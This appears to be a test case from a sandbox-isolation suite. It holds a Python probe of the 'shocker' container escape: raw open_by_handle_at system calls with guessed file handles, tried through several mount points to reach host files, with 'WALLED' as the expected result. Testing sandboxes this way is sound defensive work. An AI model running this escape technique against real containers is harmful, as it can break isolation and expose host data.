#! class: kernel
#! attack: open host files by handle, going round every mount (the shocker attack)
#! validator: rejects
#! expect stdout: WALLED
import ctypes
import errno
import platform

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
MACHINE = {"x86_64": 0, "aarch64": 1}.get(platform.machine())
fallen = False


def call(number, *arguments):
    """The result of a raw system call, negative errno on failure."""
    ctypes.set_errno(0)
    result = libc.syscall(ctypes.c_long(number), *(a if isinstance(a, (bytes, ctypes.Array)) else ctypes.c_long(a) for a in arguments))
    return -ctypes.get_errno() if result == -1 else result
import os

if MACHINE is not None:
    handle = (ctypes.c_uint8 * 136)()
    mount_id = (ctypes.c_int * 1)()
    # struct file_handle: bytes, type, then inode 2 and generation 0: the root directory of most file systems.
    for kind, inode in ((1, 2), (1, 128), (1, 256), (0x81, 2), (0x4D, 256)):
        ctypes.memset(handle, 0, 136)
        handle[0], handle[4], handle[8] = 8, kind, inode & 0xFF
        handle[9] = inode >> 8
        for path in ("/", "/tmp", "/usr", "/proc", "/dev/null"):
            try:
                mount = os.open(path, os.O_RDONLY)
            except OSError:
                continue
            opened = call((304, 265)[MACHINE], mount, handle, os.O_RDONLY)
            if opened >= 0:
                fallen = True
                print("BREACH opened by handle through", path)
            os.close(mount)
print("FALLEN" if fallen else "WALLED")
